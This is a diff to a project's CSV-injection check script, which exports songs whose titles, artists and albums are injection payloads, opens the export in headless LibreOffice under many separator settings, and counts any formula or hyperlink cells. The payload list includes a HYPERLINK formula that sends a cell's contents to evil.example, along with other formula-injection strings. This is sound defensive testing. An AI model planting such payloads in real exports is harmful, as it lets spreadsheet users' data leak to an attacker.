@@ -4,11 +4,14 @@
     .venv/bin/python scripts/csv_check.py
 
 Writes an export (library.export.csv_lines, the code the site streams) of songs whose
-titles and artists are the CSV-injection payloads an outside review used, converts it
+titles, artists and albums are the CSV-injection payloads an outside review used, converts it
 headless with `soffice --convert-to fods` (LibreOffice's flat XML spreadsheet), read with
-a comma and again with a semicolon as the separator, and counts the cells that hold a
-formula (`table:formula`) or a hyperlink. Needs LibreOffice Calc: Debian's
-libreoffice-calc-nogui. Prints a table; exits 1 if any cell is a formula.
+each separator someone could have ticked in the import dialog (LibreOffice remembers the
+last choice): comma, semicolon, pipe, tab, space, colon, all of them at once, every ASCII
+punctuation character, with "'" as the text delimiter and with "Trim spaces" on. For
+each it counts the cells that hold a formula (`table:formula`) and those that hold a
+hyperlink (a link in the cell or a HYPERLINK formula). Needs LibreOffice Calc: Debian's
+libreoffice-calc-nogui. Prints a table; exits 1 if any cell is a formula or a link.
 """
 
 from __future__ import annotations
@@ -21,11 +24,15 @@ import tempfile
 import xml.etree.ElementTree as ET
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import NamedTuple
 
 ROOT = Path(__file__).resolve().parent.parent
 sys.path.insert(0, str(ROOT))
 
-PAYLOADS = [
+# CSV-injection payloads: the ones the first fix was tested with, then the outside
+# review's for separators other than "," and ";". tests/library/test_csv_injection.py
+# splits the same ones the way each separator would.
+HOSTILE = [
     '\x00=HYPERLINK("https://evil.example/?"&C2,"click me")',
     "\x00=1+1",
     ";=3+3;",
@@ -37,11 +44,66 @@ PAYLOADS = [
     "\r=5+5",
     "  =6+6",
     '"=7+7"',
+    ' =HYPERLINK("http://evil","x")',
+    '" =HYPERLINK("http://evil","x")',
+    'x =HYPERLINK("http://evil","x")',
+    'x:=HYPERLINK("http://evil","x")',
+    ":=1+1",
+    "a =1+1",
+    "x\t=1+1",
+    "x;=1+1",
+    "x|=1+1",
+    "'=1+1",
+    "x '=1+1' y",
+    '"=1+1',
+    "(=1+1)",
+    "x,@SUM(1)",
+    "x: = 1+1",
+    "x/-2+3",
+    "x\u00a0=1+1",  # a no-break space before it
 ]
+# Ordinary titles, which must stay readable; the fullwidth "=" is text to LibreOffice.
+PLAIN = ["Song - 2011 Remaster", "A = B", "C++", "Hello --World", "\uff1d1+1"]
 TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
-# LibreOffice's CSV import options: separator, text delimiter ("), UTF-8 (76), first line.
-SEPARATORS = {"comma": "44,34,76,1", "semicolon": "59,34,76,1"}
+_PUNCTUATION = "!\"#$%&'()*,./:;<>?[\\]^_`{|}~"  # ASCII punctuation but the formula starts
+_ALL_USUAL = ",;:| \t"
+
+
+class Reading(NamedTuple):
+    """One way to read the file in LibreOffice's Text Import dialog."""
+
+    separators: str
+    delimiter: str = '"'
+    merge: bool = False  # "Merge delimiters"
+    trim: bool = False  # "Trim spaces"
+
+    def options(self) -> str:
+        """The --infilter options: separators (character codes joined by "/", "MRG" to
+        merge runs of them), text delimiter, UTF-8 (76), first line, column formats,
+        language, quoted field as text, detect special numbers, two export-only flags,
+        trim spaces."""
+        codes = [str(ord(char)) for char in self.separators] + (["MRG"] if self.merge else [])
+        trim = "true" if self.trim else "false"
+        return f"{'/'.join(codes)},{ord(self.delimiter)},76,1,,0,false,false,false,false,{trim}"
+
+
+READINGS = {
+    "comma": Reading(","),
+    "semicolon": Reading(";"),
+    "pipe": Reading("|"),
+    "tab": Reading("\t"),
+    "space": Reading(" "),
+    "colon": Reading(":"),
+    ", ; : | tab space": Reading(_ALL_USUAL),
+    ", ; : | tab space, merged, trimmed": Reading(_ALL_USUAL, merge=True, trim=True),
+    ", ; : | tab space, ' delimiter, trimmed": Reading(_ALL_USUAL, delimiter="'", trim=True),
+    "space, ' delimiter": Reading(" ", delimiter="'"),
+    "punctuation + blanks, trimmed": Reading(_PUNCTUATION + " \t", trim=True),
+    "punctuation + blanks, ' delimiter, merged": Reading(
+        _PUNCTUATION + " \t", delimiter="'", merge=True, trim=True
+    ),
+}
 
 
 def _export(path: Path) -> None:
@@ -70,18 +132,21 @@ def _export(path: Path) -> None:
             spotify_url=None,
             isrc=None,
         )
-        for number, payload in enumerate(PAYLOADS)
+        for number, payload in enumerate(HOSTILE + PLAIN)
     ]
     path.write_text("".join(csv_lines(tracks)), encoding="utf-8")
 
 
-def _formulas(fods: Path) -> tuple[int, int, int]:
-    """(cells, cells holding a formula, cells holding a hyperlink) in the converted sheet."""
+def _cells(fods: Path) -> tuple[int, list[str], list[str]]:
+    """(cells with text, formulas, hyperlinks) in the converted sheet. A HYPERLINK formula
+    counts as a link: the flat file keeps the formula, not a text:a element, for it."""
     tree = ET.parse(fods)  # noqa: S314
     cells = list(tree.iter(f"{{{TABLE}}}table-cell"))
-    formulas = [cell for cell in cells if cell.get(f"{{{TABLE}}}formula")]
-    links = list(tree.iter(f"{{{TEXT}}}a"))
-    return sum(1 for cell in cells if "".join(cell.itertext())), len(formulas), len(links)
+    formulas = [cell.get(f"{{{TABLE}}}formula", "") for cell in cells]
+    links = [formula for formula in formulas if "HYPERLINK" in formula.upper()]
+    links += ["".join(link.itertext()) for link in tree.iter(f"{{{TEXT}}}a")]
+    with_text = sum(1 for cell in cells if "".join(cell.itertext()).strip())
+    return with_text, [formula for formula in formulas if formula], links
 
 
 def main() -> int:
@@ -93,14 +158,14 @@ def main() -> int:
     export = workdir / "liked-songs.csv"
     _export(export)
     rows = []
-    for name, options in SEPARATORS.items():
-        out = workdir / name
+    for number, (name, reading) in enumerate(READINGS.items()):
+        out = workdir / f"reading{number}"
         subprocess.run(  # noqa: S603 (LibreOffice, on our own file)
             [
                 soffice,
                 "--headless",
                 f"-env:UserInstallation=file://{workdir / 'profile'}",
-                f"--infilter=CSV:{options}",
+                f"--infilter=CSV:{reading.options()}",
                 "--convert-to",
                 "fods",
                 "--outdir",
@@ -111,14 +176,19 @@ def main() -> int:
             capture_output=True,
             timeout=180,
         )
-        rows.append((name, *_formulas(out / "liked-songs.fods")))
-    print(f"\nspotifysite CSV export opened in LibreOffice Calc ({len(PAYLOADS)} hostile songs)\n")
-    print("separator | cells with text | formula cells | hyperlinks")
-    print("--------- | --------------- | ------------- | ----------")
-    for name, cells, formulas, links in rows:
-        print(f"{name:<9} | {cells:<15} | {formulas:<13} | {links}")
-    bad = sum(formulas + links for _, _, formulas, links in rows)
-    print(f"\ncsv check: {'no cell is a formula' if bad == 0 else f'{bad} formula or link cells'}")
+        rows.append((name, *_cells(out / "liked-songs.fods")))
+    songs = f"{len(HOSTILE)} hostile songs, {len(PLAIN)} plain"
+    print(f"\nspotifysite CSV export opened in LibreOffice Calc ({songs})\n")
+    width = max(len(name) for name in READINGS)
+    print(f"{'read with':<{width}} | cells with text | formula cells | hyperlinks")
+    print(f"{'-' * width} | --------------- | ------------- | ----------")
+    for name, with_text, formulas, links in rows:
+        print(f"{name:<{width}} | {with_text:<15} | {len(formulas):<13} | {len(links)}")
+    for name, _, formulas, links in rows:
+        for cell in dict.fromkeys(formulas + links):
+            print(f"  {name}: {cell}")
+    bad = sum(len(formulas) + len(links) for _, _, formulas, links in rows)
+    print(f"\ncsv check: {'no cell is a formula or a link' if bad == 0 else f'{bad} formula or link cells'}")
     return 0 if bad == 0 else 1
 
 
